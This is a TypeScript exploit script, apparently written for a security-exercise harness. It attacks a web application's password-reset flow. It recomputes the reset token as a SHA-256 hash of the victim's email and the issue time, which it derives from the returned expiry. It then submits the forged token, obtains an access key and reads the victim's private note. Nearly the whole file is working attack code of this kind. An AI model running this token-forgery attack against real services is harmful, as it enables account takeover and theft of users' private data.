import { exploit } from '#attack';

/** With `fetch` and Web Crypto, for the address as the program knows it. */
export default exploit(async ({ target: { url }, victim, say }) => {
  const email = victim.toLowerCase();
  const send = (path: string, body: object) =>
    fetch(url + path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const begun = await send('/resets', { email });
  const { expires_at } = (await begun.json()) as { expires_at: string };
  const text = `${email} ${new Date(expires_at).valueOf() - 1000 * 60 * 15}`;
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
  const response = await send('/resets/confirm', { email, token: Buffer.from(digest).toString('hex') });
  say(`The program responds with ${response.status}.`);
  if (!response.ok) return undefined;
  const { key } = (await response.json()) as { key: string };
  const read = await send('/note/read', { email, key });
  const { note } = (await read.json()) as { note?: string };
  return note;
});
